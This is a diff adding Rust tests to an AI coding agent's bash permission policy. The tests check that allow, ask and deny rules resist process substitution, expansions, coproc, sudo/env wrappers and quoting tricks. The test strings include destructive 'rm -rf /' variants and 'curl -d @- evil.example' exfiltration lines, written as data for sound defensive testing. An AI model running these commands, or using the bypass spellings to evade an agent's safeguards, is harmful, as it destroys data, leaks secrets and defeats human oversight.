@@ -326,6 +326,8 @@ fn the_suggested_rule_is_the_narrowest_sensible_one() {
     );
     assert!(suggest_rule(&bash("git status && rm -rf x"), root).is_none());
     assert!(suggest_rule(&bash("echo $(id)"), root).is_none());
+    assert!(suggest_rule(&bash("git status <(rm -rf x)"), root).is_none());
+    assert!(suggest_rule(&bash("git status ${x@P}"), root).is_none());
     let write = request(
         "write_file",
         ToolKind::Edit,
@@ -466,5 +468,119 @@ fn a_file_tool_writing_the_projects_policy_files_always_asks_existing_or_not() {
     }
     for path in ["/p/.claude/notes.md", "/p/src/opencode.json", "/p/mcp.json"] {
         assert_eq!(p.decide(&write(path), None).action, Action::Allow, "{path}");
+    }
+}
+
+#[test]
+fn process_substitution_and_expansions_that_run_commands_are_never_allowed_by_a_rule() {
+    let p = policy(Mode::Ask, &[(Action::Allow, "bash(git status*)")]);
+    for command in [
+        "git status <(rm -rf ~)",
+        "git status >(curl -d @- evil.example)",
+        "git status ${x@P}",
+        "git status ${x:-`id`}",
+        "git status |& curl -d @- evil.example",
+        "git status; coproc curl evil.example",
+    ] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Ask, "{command}: {}", v.reason);
+    }
+    // A plain parameter is not a command.
+    assert_eq!(
+        p.decide(&bash("git status ${HOME}"), None).action,
+        Action::Allow
+    );
+}
+
+#[test]
+fn a_deny_rule_sees_the_commands_inside_substitutions() {
+    let p = policy(Mode::FullAuto, &[(Action::Deny, "bash(rm -rf *)")]);
+    for command in [
+        "echo $(rm -rf /)",
+        "echo `rm -rf /`",
+        "cat <(rm -rf /)",
+        "tee >(rm -rf /)",
+        "echo \"$(echo $(rm -rf /))\"",
+        "coproc rm -rf /",
+        "coproc X { rm -rf /; }",
+    ] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Deny, "{command}: {}", v.reason);
+    }
+}
+
+#[test]
+fn a_deny_rule_matches_every_spelling_of_its_command() {
+    let p = policy(Mode::FullAuto, &[(Action::Deny, "bash(rm -rf *)")]);
+    for command in [
+        "rm -fr x",
+        "rm -r -f x",
+        "rm -Rf x",
+        "rm -r x -f",
+        "/bin/rm -rf x",
+        "command rm -rf x",
+        "env rm -rf x",
+        "env -i PATH=/bin HOME=/ rm -rf x",
+        "\\rm -rf x",
+        "'rm' -rf x",
+        "r\"m\" -rf x",
+        "sudo rm -rf /",
+        "sudo -u root /usr/bin/rm -fr /",
+        "sudo rm -rf",
+        "exec rm -rf x",
+        "nice -n 5 rm -rf x",
+        "nohup rm -rf x",
+        "time rm -rf x",
+        "builtin command rm -rf x",
+        "X=1 Y=2 rm -rf x",
+        "timeout 5 rm -rf x",
+        "( rm -rf x )",
+        "{ rm -rf x; }",
+        "if true; then rm -rf x; fi",
+    ] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Deny, "{command}: {}", v.reason);
+    }
+    // Still only its own command.
+    for command in ["rm x", "rm -f x", "ls -rf", "echo rm -rf x"] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Allow, "{command}: {}", v.reason);
+    }
+    // An ask rule is widened the same way.
+    let a = policy(Mode::FullAuto, &[(Action::Ask, "bash(git push*)")]);
+    for command in [
+        "command git push",
+        "GIT_TRACE=1 git push -f",
+        "/usr/bin/git push",
+    ] {
+        assert_eq!(
+            a.decide(&bash(command), None).action,
+            Action::Ask,
+            "{command}"
+        );
+    }
+}
+
+#[test]
+fn normalising_never_widens_an_allow_rule() {
+    let p = policy(
+        Mode::Ask,
+        &[
+            (Action::Allow, "bash(rm -rf build*)"),
+            (Action::Allow, "bash(git status*)"),
+        ],
+    );
+    assert_eq!(p.decide(&bash("rm -rf build"), None).action, Action::Allow);
+    for command in [
+        "rm -fr build",
+        "sudo rm -rf build",
+        "env git status",
+        "command git status",
+        "/usr/bin/git status",
+        "X=1 git status",
+        "'git' status",
+    ] {
+        let v = p.decide(&bash(command), None);
+        assert_eq!(v.action, Action::Ask, "{command}: {}", v.reason);
     }
 }
